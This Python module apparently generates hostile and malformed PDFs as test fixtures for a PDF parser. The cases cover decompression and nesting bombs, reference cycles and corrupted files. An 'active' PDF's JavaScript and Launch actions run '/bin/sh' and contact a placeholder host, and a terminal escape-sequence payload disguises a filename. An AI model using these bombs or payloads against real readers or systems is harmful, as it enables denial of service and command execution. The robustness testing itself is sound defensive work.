"""PDFs that nobody's program writes: bombs, cycles, lies, nesting; each is made from a few objects."""

import random
import zlib
from collections.abc import Callable, Mapping
from typing import NamedTuple

BODY = (
    "The health visitor did not tell the midwife about the bruise. Supervision took place every month. "
    "The board should make sure that records of a handover go with the child."
)
"""What a page says where it says anything."""
CATALOG, PAGES, PAGE, CONTENT, FONT = 1, 2, 3, 4, 5
Objects = dict[int, bytes]
PAYLOAD = "\x1b]0;owned\x07\x1b[2J\u202egnp.exe\u2066"
"""What would steer a terminal."""


class Kinds(NamedTuple):
    """What a document may end in, and whether finding out takes more than a second or two."""

    kinds: frozenset[str]
    slow: bool = False


def ends_in(*kinds: str, slow: bool = False) -> Kinds:
    """Name the records that a document may end in; "done" is one."""
    return Kinds(frozenset(kinds), slow)


# --- writing -----------------------------------------------------------------------------------------------


def stream(content: bytes, entries: bytes = b"", *, pack: int = 0) -> bytes:
    """Give a stream object, its content packed as often as is said."""
    for _ in range(pack):
        content = zlib.compress(content, 9)
    filters = b"/Filter [" + b" /FlateDecode" * pack + b"]" if pack else b""
    return b"<<" + entries + filters + b"/Length %d>>\nstream\n" % len(content) + content + b"\nendstream"


def show(text: str, *, top: int = 700) -> bytes:
    """Give the content of a page that shows a text, a few words a line."""
    words = text.split()
    lines = [" ".join(words[place : place + 12]) for place in range(0, len(words), 12)]
    shown = b" ".join(
        b"(" + line.encode("latin-1", "replace").replace(b"(", b"[").replace(b")", b"]") + b") Tj T*"
        for line in lines
    )
    return b"BT /F1 11 Tf 14 TL 1 0 0 1 50 %d Tm " % top + shown + b" ET"


def page(entries: bytes = b"") -> bytes:
    """Give a page object; what `entries` says again holds, as readers take the last."""
    box = b"" if b"/MediaBox" in entries else b"/MediaBox [0 0 595 842]"
    resources = b"" if b"/Resources" in entries else b"/Resources <</Font <</F1 5 0 R>>>>"
    contents = b"" if b"/Contents" in entries else b"/Contents 4 0 R"
    return b"<</Type /Page /Parent 2 0 R " + box + resources + contents + entries + b">>"


def simple(**changes: bytes) -> Objects:
    """Give the objects of a PDF of one page; objects are replaced by name."""
    objects = {
        CATALOG: b"<</Type /Catalog /Pages 2 0 R>>",
        PAGES: b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
        PAGE: page(),
        CONTENT: stream(show(BODY)),
        FONT: b"<</Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding>>",
    }
    places = {"catalog": CATALOG, "pages": PAGES, "page": PAGE, "content": CONTENT, "font": FONT}
    return {**objects, **{places[name]: value for name, value in changes.items()}}


def write(objects: Mapping[int, bytes], trailer: bytes = b"", *, header: bytes = b"%PDF-1.7\n") -> bytes:
    """Write objects as a PDF with a right table of cross-references."""
    out, offsets = bytearray(header), {}
    for number, content in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    start, size = len(out), max(objects, default=0) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    out += b"".join(
        b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 00000 f \n"
        for number in range(1, size)
    )
    out += b"trailer\n<</Size %d /Root 1 0 R " % size + trailer + b">>\nstartxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def good(text: str = BODY, pages: int = 3) -> bytes:
    """Write a PDF of a few pages in which nothing is wrong."""
    objects = simple(
        pages=b"<</Type /Pages /Kids ["
        + b" ".join(b"%d 0 R" % (10 + 2 * n) for n in range(pages))
        + b"] /Count %d>>" % pages
    )
    del objects[PAGE], objects[CONTENT]
    for number in range(pages):
        objects[10 + 2 * number] = page(b"/Contents %d 0 R" % (11 + 2 * number))
        objects[11 + 2 * number] = stream(show(f"Page {number + 1}. {text}"), pack=1)
    return write(objects)


def one_page(content: bytes, *, pack: int = 0, page_entries: bytes = b"", **more: bytes) -> bytes:
    """Write a PDF of one page with this content; further objects are named by number (o7=...)."""
    objects = simple(content=stream(content, pack=pack), page=page(page_entries))
    objects.update({int(name[1:]): value for name, value in more.items()})
    return write(objects)


# --- bombs --------------------------------------------------------------------------------------------------


def _bomb_in_bombs() -> bytes:
    return one_page(bytes(512 << 20), pack=3)


def _image(width: int, height: int) -> bytes:
    packed = zlib.compress(bytes(min(width * height // 8, 64 << 20)), 9)
    entries = (
        b"<</Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 1 "
        b"/Filter /FlateDecode /Length %d>>\nstream\n"
    )
    image = entries % (width, height, len(packed)) + packed + b"\nendstream"
    return one_page(
        b"q 500 0 0 700 0 0 cm /I Do Q",
        page_entries=b"/Resources <</XObject <</I 7 0 R>> /Font <</F1 5 0 R>>>>",
        o7=image,
    )


def _laughing_forms(levels: int, width: int) -> bytes:
    """Forms that each show the next one several times: width ** levels texts."""
    objects = simple(content=stream(b"/X0 Do"), page=page(b"/Resources <</XObject <</X0 10 0 R>>>>"))
    for level in range(levels):
        resources = b"/Resources <</XObject <</X%d %d 0 R>> /Font <</F1 5 0 R>>>>" % (level + 1, 11 + level)
        content = b"/X%d Do " % (level + 1) * width if level + 1 < levels else show("A sentence.")
        objects[10 + level] = stream(
            content, b"/Type /XObject /Subtype /Form /BBox [0 0 600 900]" + resources
        )
    return write(objects)


def _laughing_pages(levels: int, width: int) -> bytes:
    """Nodes of a page tree that each hold the next one several times: width ** levels pages."""
    objects = simple(pages=b"<</Type /Pages /Count %d /Kids [10 0 R]>>" % width**levels)
    for level in range(levels):
        next_node = b"%d 0 R " % (11 + level if level + 1 < levels else PAGE)
        count = width ** (levels - level)
        objects[10 + level] = b"<</Type /Pages /Count %d /Kids [" % count + next_node * width + b"]>>"
    return write(objects)


def _xref_stream(entries: bytes, content: bytes) -> bytes:
    out = bytearray(b"%PDF-1.7\n")
    for number, value in simple().items():
        out += b"%d 0 obj\n" % number + value + b"\nendobj\n"
    start = len(out)
    out += b"20 0 obj\n" + stream(content, b"/Type /XRef /Root 1 0 R " + entries, pack=1) + b"\nendobj\n"
    return bytes(out) + b"startxref\n%d\n%%%%EOF\n" % start


def _grid(rows: int, columns: int) -> bytes:
    """Rule a table with a word in each cell."""
    wide, high = 500 / columns, 700 / rows
    rules = [f"50 {50 + n * high:.2f} 500 0.3 re f" for n in range(rows + 1)]
    rules += [f"{50 + n * wide:.2f} 50 0.3 700 re f" for n in range(columns + 1)]
    words = [
        f"BT /F1 3 Tf 1 0 0 1 {51 + c * wide:.2f} {51 + r * high:.2f} Tm (cell {r} {c}) Tj ET"
        for r in range(rows)
        for c in range(columns)
    ]
    return one_page("\n".join([*rules, *words]).encode(), pack=1)


def _many_fonts() -> bytes:
    fonts = b" ".join(b"/G%d %d 0 R" % (n, 100 + n) for n in range(3000))
    objects = simple(
        page=page(b"/Resources <</Font <<" + fonts + b" /F1 5 0 R>>>>"),
        content=stream(
            b"BT 50 700 Td " + b" ".join(b"/G%d 9 Tf (word ) Tj" % n for n in range(3000)) + b" ET"
        ),
    )
    return write({**objects, **{100 + n: simple()[FONT] for n in range(3000)}})


# --- cycles -------------------------------------------------------------------------------------------------


def _form(content: bytes, resources: bytes) -> bytes:
    return stream(content, b"/Type /XObject /Subtype /Form /BBox [0 0 600 900] /Resources " + resources)


def _form_in_itself() -> bytes:
    return one_page(
        show(BODY) + b" /X Do",
        page_entries=b"/Resources <</XObject <</X 7 0 R>> /Font <</F1 5 0 R>>>>",
        o7=_form(b"/X Do " + show("Again.", top=300), b"<</XObject <</X 7 0 R>> /Font <</F1 5 0 R>>>>"),
    )


def _forms_in_one_another() -> bytes:
    return one_page(
        show(BODY) + b" /X Do",
        page_entries=b"/Resources <</XObject <</X 7 0 R>> /Font <</F1 5 0 R>>>>",
        o7=_form(b"/Y Do", b"<</XObject <</Y 8 0 R>>>>"),
        o8=_form(b"/X Do /X Do", b"<</XObject <</X 7 0 R>>>>"),
    )


def _glyph_in_itself() -> bytes:
    font = (
        b"<</Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 "
        b"/LastChar 97 /Widths [1] /Encoding <</Differences [97 /a]>> /CharProcs <</a 7 0 R>> "
        b"/Resources <</Font <</F1 5 0 R>>>>>>"
    )
    objects = simple(content=stream(b"BT /F1 12 Tf 50 700 Td (aaaa) Tj ET"), font=font)
    return write({**objects, 7: stream(b"1 0 0 0 1 1 d1 BT /F1 1 Tf (aa) Tj ET")})


def _outlines() -> bytes:
    item = (
        b"<</Title (One) /Parent 7 0 R /Next 8 0 R /Prev 8 0 R /First 8 0 R /Last 8 0 R /Dest [3 0 R /Fit]>>"
    )
    catalog = b"<</Type /Catalog /Pages 2 0 R /Outlines 7 0 R /PageMode /UseOutlines>>"
    return write({**simple(catalog=catalog), 7: b"<</First 8 0 R /Last 8 0 R /Count 9>>", 8: item})


# --- broken -------------------------------------------------------------------------------------------------


def cut(share: float, content: bytes | None = None) -> bytes:
    """Give the first part of a PDF."""
    content = good() if content is None else content
    return content[: int(len(content) * share)]


def rotten(seed: int, *, changes: int = 40, content: bytes | None = None) -> bytes:
    """Give a PDF with bytes changed, put in and taken out, the same ones for the same seed."""
    rotting, dice = bytearray(good() if content is None else content), random.Random(seed)
    for _ in range(changes):
        place = dice.randrange(len(rotting))
        match dice.randrange(4):
            case 0:
                rotting[place] ^= 1 << dice.randrange(8)
            case 1:
                rotting[place : place + dice.randrange(1, 20)] = b""
            case 2:
                rotting[place:place] = dice.randbytes(dice.randrange(1, 20))
            case _:
                other = dice.randrange(len(rotting))
                rotting[place : place + 30] = rotting[other : other + 30]
    return bytes(rotting)


def without_xref(content: bytes | None = None) -> bytes:
    """Give a PDF without its table of cross-references, its trailer and its end."""
    content = good() if content is None else content
    return content[: content.rindex(b"xref\n0")]


def _wrong_offsets() -> bytes:
    content = good()
    start = content.index(b"xref\n0")
    return content[:start] + content[start:].replace(b"00000 n", b"00000 n").replace(b"0000000", b"0000009")


def _prev_to_itself() -> bytes:
    plain = write(simple())
    return write(simple(), b"/Prev %d" % plain.index(b"xref\n"))


def _to_unicode(cmap: bytes) -> bytes:
    font = (
        b"<</Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /DescendantFonts [7 0 R] "
        b"/ToUnicode 8 0 R>>"
    )
    descendant = (
        b"<</Type /Font /Subtype /CIDFontType2 /BaseFont /A /CIDSystemInfo <</Registry (Adobe) "
        b"/Ordering (Identity) /Supplement 0>> /W [0 [500]]>>"
    )
    objects = simple(font=font, content=stream(b"BT /F1 12 Tf 50 700 Td <004100420043> Tj ET"))
    start = b"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <0000> <ffff> "
    return write({**objects, 7: descendant, 8: stream(start + b"endcodespacerange " + cmap + b" endcmap")})


def _active() -> bytes:
    """Make a page that wants to run a script, start a program, open a page of the web and fetch a form."""
    catalog = (
        b"<</Type /Catalog /Pages 2 0 R /OpenAction <</S /JavaScript /JS (app.launchURL\\('http://192.0.2.1/'\\);"
        b" this.submitForm\\('http://192.0.2.1/'\\))>> /AA <</WC <</S /Launch /F (/bin/sh) "
        b"/P (-c 'touch owned')>>>> /AcroForm <</XFA (http://192.0.2.1/form.xml) /Fields []>> "
        b"/Names <</EmbeddedFiles <</Names [(a) 7 0 R]>>>>>>"
    )
    link = b"<</Type /Annot /Subtype /Link /Rect [0 0 600 900] /A <</S /URI /URI (http://192.0.2.1/)>>>>"
    objects = simple(
        catalog=catalog, page=page(b"/Annots [" + link + b"] /AA <</O <</S /URI /URI (http://192.0.2.1/)>>>>")
    )
    objects[7] = b"<</Type /Filespec /FS /URL /F (http://192.0.2.1/evil.exe) /EF <</F 8 0 R>>>>"
    objects[8] = stream(b"MZ", b"/Type /EmbeddedFile /F (http://192.0.2.1/evil)")
    return write(objects)


DONE = ends_in("done")
BROKEN = ends_in("done", "damaged", "no-pages", "no-text-layer")
UNKNOWN = ends_in("done", "damaged", "no-pages", "no-text-layer", "encrypted")
HEAVY = ends_in("done", "damaged", "no-text-layer", "time-out", "out-of-memory", slow=True)
_NEST = 100_000

PDFS: dict[str, tuple[Callable[[], bytes], Kinds]] = {
    "good": (good, DONE),
    # bombs
    "flate-bomb": (lambda: one_page(show(BODY) + b" " * (256 << 20), pack=1), HEAVY),
    "flate-bomb-in-bombs": (_bomb_in_bombs, HEAVY),
    "text-bomb": (lambda: one_page(b"BT /F1 9 Tf " + b"(word ) Tj " * 2_000_000 + b"ET", pack=1), HEAVY),
    "glyph-bomb": (lambda: one_page(b"BT /F1 9 Tf (" + b"a" * 30_000_000 + b") Tj ET", pack=1), HEAVY),
    "path-bomb": (lambda: one_page(show(BODY) + b" 0 0 m 9 9 l S" * 1_000_000, pack=1), HEAVY),
    "image-bomb": (lambda: _image(100_000, 100_000), HEAVY),
    "image-that-lies": (lambda: _image(2_000_000_000, 2_000_000_000), HEAVY),
    "laughing-forms": (lambda: _laughing_forms(30, 3), HEAVY),
    "laughing-pages": (lambda: _laughing_pages(12, 10), HEAVY),
    "one-page-ten-thousand-times": (
        lambda: write(simple(pages=b"<</Type /Pages /Count 10000 /Kids [" + b"3 0 R " * 10000 + b"]>>")),
        HEAVY,
    ),
    "object-stream-bomb": (
        lambda: write({**simple(), 9: stream(bytes(64 << 20), b"/Type /ObjStm /N 1000000 /First 9", pack=1)}),
        BROKEN,
    ),
    "xref-stream-bomb": (lambda: _xref_stream(b"/Size 5 /W [1 2 1]", bytes(64 << 20)), BROKEN),
    "xref-stream-of-huge-size": (lambda: _xref_stream(b"/Size 2147483647 /W [1 2 1]", bytes(400)), BROKEN),
    "xref-stream-of-huge-width": (lambda: _xref_stream(b"/Size 5 /W [1 999999999 1]", bytes(400)), BROKEN),
    "xref-stream-of-huge-index": (
        lambda: _xref_stream(b"/Size 5 /W [1 2 1] /Index [0 2147483647]", bytes(400)),
        BROKEN,
    ),
    "predictor-of-huge-width": (
        lambda: write(
            simple(content=stream(show(BODY), b"/DecodeParms <</Predictor 15 /Columns 2147483647>>", pack=1))
        ),
        BROKEN,
    ),
    "many-fonts": (_many_fonts, BROKEN),
    "many-filters": (
        lambda: write(
            simple(
                content=b"<</Filter [" + b"/ASCIIHexDecode " * 5000 + b"] /Length 2>>\nstream\n>>\nendstream"
            )
        ),
        BROKEN,
    ),
    "cmap-bomb": (lambda: _to_unicode(b"1 beginbfrange <0000> <ffffffff> <0041> endbfrange"), BROKEN),
    "cmap-of-many-ranges": (
        lambda: _to_unicode(b"100 beginbfrange " + b"<0000> <ffff> <0041> " * 100 + b"endbfrange"),
        BROKEN,
    ),
    "cmap-that-uses-itself": (lambda: _to_unicode(b"/Identity-H usecmap /A usecmap"), BROKEN),
    "huge-table": (lambda: _grid(120, 60), ends_in("done", slow=True)),
    "table": (lambda: _grid(30, 10), DONE),
    "million-rules": (lambda: one_page(show(BODY) + b" 0 0 500 0.3 re f" * 200_000, pack=1), HEAVY),
    # pages that lie
    "huge-page-count": (
        lambda: write(simple(pages=b"<</Type /Pages /Kids [3 0 R] /Count 2147483647>>")),
        HEAVY,
    ),
    "page-count-beyond-numbers": (
        lambda: write(simple(pages=b"<</Type /Pages /Kids [3 0 R] /Count 99999999999999999999>>")),
        BROKEN,
    ),
    "negative-page-count": (lambda: write(simple(pages=b"<</Type /Pages /Kids [3 0 R] /Count -7>>")), BROKEN),
    "no-page-count": (lambda: write(simple(pages=b"<</Type /Pages /Kids [3 0 R]>>")), BROKEN),
    "kids-that-are-none": (
        lambda: write(simple(pages=b"<</Type /Pages /Kids [null 5 (x) 99 0 R 5 0 R] /Count 5>>")),
        BROKEN,
    ),
    "pages-that-are-text": (lambda: write(simple(pages=b"(no pages)")), BROKEN),
    "huge-media-box": (lambda: one_page(show(BODY), page_entries=b"/MediaBox [0 0 1e30 1e30]"), BROKEN),
    "media-box-of-a-billion": (
        lambda: one_page(show(BODY), page_entries=b"/MediaBox [0 0 1000000000 1000000000]"),
        BROKEN,
    ),
    "media-box-upside-down": (lambda: one_page(show(BODY), page_entries=b"/MediaBox [595 842 0 0]"), BROKEN),
    "media-box-of-nothing": (lambda: one_page(show(BODY), page_entries=b"/MediaBox [0 0 0 0]"), BROKEN),
    "media-box-of-text": (lambda: one_page(show(BODY), page_entries=b"/MediaBox [(a) /b null]"), BROKEN),
    "crop-box-elsewhere": (
        lambda: one_page(show(BODY), page_entries=b"/CropBox [9000 9000 9001 9001]"),
        BROKEN,
    ),
    "huge-user-unit": (lambda: one_page(show(BODY), page_entries=b"/UserUnit 1e30"), BROKEN),
    "odd-rotation": (lambda: one_page(show(BODY), page_entries=b"/Rotate 45"), BROKEN),
    "huge-font-size": (lambda: one_page(show(BODY).replace(b"11 Tf", b"1e30 Tf")), BROKEN),
    "no-font-size": (lambda: one_page(show(BODY).replace(b"11 Tf", b"0 Tf")), BROKEN),
    "matrix-of-infinity": (lambda: one_page(b"1e38 1e38 1e38 1e38 1e38 1e38 cm " * 5 + show(BODY)), BROKEN),
    # cycles
    "pages-in-themselves": (lambda: write(simple(pages=b"<</Type /Pages /Kids [2 0 R] /Count 1>>")), HEAVY),
    "pages-in-one-another": (
        lambda: write(
            {
                **simple(pages=b"<</Type /Pages /Kids [8 0 R 3 0 R] /Count 2>>"),
                8: b"<</Type /Pages /Kids [2 0 R 2 0 R] /Parent 2 0 R /Count 2>>",
            }
        ),
        HEAVY,
    ),
    "page-that-is-its-parent": (
        lambda: write(simple(page=b"<</Type /Page /Parent 3 0 R /Contents 4 0 R>>")),
        BROKEN,
    ),
    "outlines-in-themselves": (_outlines, DONE),
    "form-in-itself": (_form_in_itself, BROKEN),
    "forms-in-one-another": (_forms_in_one_another, HEAVY),
    "glyph-in-itself": (_glyph_in_itself, BROKEN),
    "length-that-is-itself": (
        lambda: write(simple(content=b"<</Length 4 0 R>>\nstream\n" + show(BODY) + b"\nendstream")),
        BROKEN,
    ),
    "references-in-a-ring": (
        lambda: write({**simple(page=page(b"/Contents 7 0 R")), 7: b"8 0 R", 8: b"7 0 R"}),
        BROKEN,
    ),
    "object-stream-in-itself": (
        lambda: write({**simple(), 9: stream(b"9 0 <<>>", b"/Type /ObjStm /N 1 /First 4 /Extends 9 0 R")}),
        BROKEN,
    ),
    "prev-to-itself": (_prev_to_itself, BROKEN),
    "encrypt-in-itself": (lambda: write(simple(), b"/Encrypt 6 0 R /ID [(a) (b)]"), UNKNOWN),
    "encrypt-that-is-nothing": (
        lambda: write({**simple(), 6: b"<</Filter /Nobody /V 9>>"}, b"/Encrypt 6 0 R /ID [(a) (b)]"),
        UNKNOWN,
    ),
    # nesting
    "deep-arrays": (lambda: write({**simple(), 7: b"[" * _NEST + b"]" * _NEST}), BROKEN),
    "deep-dictionaries": (
        lambda: write(simple(catalog=b"<</Pages 2 0 R /A " + b"<</A " * _NEST + b">>" * _NEST + b">>")),
        BROKEN,
    ),
    "deep-arrays-in-a-page": (
        lambda: one_page(show(BODY) + b"[" * _NEST + b"]" * _NEST + b" TJ"),
        BROKEN,
    ),
    "deep-states": (lambda: one_page(b"q " * 300_000 + show(BODY)), BROKEN),
    "deep-marks": (lambda: one_page(b"/P BMC " * 300_000 + show(BODY)), HEAVY),
    "text-in-text": (lambda: one_page(b"BT " * 100_000 + show(BODY)), BROKEN),
    "deep-page-tree": (
        lambda: write(
            {
                **simple(pages=b"<</Type /Pages /Kids [100 0 R] /Count 1>>"),
                **{
                    n: b"<</Type /Pages /Count 1 /Kids [%d 0 R]>>" % (n + 1 if n < 3099 else PAGE)
                    for n in range(100, 3100)
                },
            }
        ),
        BROKEN,
    ),
    "long-name": (lambda: write({**simple(), 7: b"/" + b"a" * 5_000_000}), BROKEN),
    "long-text": (lambda: write({**simple(), 7: b"(" + b"(" * 100_000 + b")" * 100_000 + b")"}), BROKEN),
    "endless-number": (lambda: write({**simple(), 7: b"9" * 1_000_000}), BROKEN),
    "endless-inline-image": (lambda: one_page(show(BODY) + b" BI /W 9 /H 9 ID " + b"x" * 100_000), BROKEN),
    # broken
    "nothing-but-a-header": (lambda: b"%PDF-1.7\n%%EOF", BROKEN),
    "header-after-noise": (lambda: b"\0noise\n" * 100 + good(), UNKNOWN),
    "noise-after-header": (lambda: b"%PDF-1.7\n" + random.Random(1).randbytes(20_000), BROKEN),
    "no-xref": (without_xref, BROKEN),
    "wrong-offsets": (_wrong_offsets, BROKEN),
    "wrong-startxref": (lambda: good().replace(b"startxref\n", b"startxref\n9"), BROKEN),
    "length-that-lies": (
        lambda: write(simple(content=b"<</Length 999999999>>\nstream\n" + show(BODY) + b"\nendstream")),
        BROKEN,
    ),
    "negative-length": (
        lambda: write(simple(content=b"<</Length -9>>\nstream\n" + show(BODY) + b"\nendstream")),
        BROKEN,
    ),
    "unknown-filter": (
        lambda: write(simple(content=stream(show(BODY), b"/Filter /Nobody"))),
        BROKEN,
    ),
    "noise-in-a-stream": (
        lambda: write(simple(content=stream(b"\x78\x9c" + bytes(900), b"/Filter /FlateDecode"))),
        BROKEN,
    ),
    "objects-twice": (lambda: write(simple())[:-6] + write(simple(content=stream(show("Other.")))), BROKEN),
    # what wants to act
    "active": (_active, DONE),
    "steers-a-terminal": (
        lambda: one_page(show(f"Steer {PAYLOAD} {BODY}") + b" BT /F1 9 Tf (\\033[2J) Tj ET"),
        BROKEN,
    ),
    **{f"cut-{share:.0%}": (lambda share=share: cut(share), BROKEN) for share in (0.05, 0.3, 0.6, 0.9, 0.99)},
    **{f"rotten-{seed}": (lambda seed=seed: rotten(seed), UNKNOWN) for seed in range(12)},
}
"""Name of a PDF to what makes it, and what it may end in."""
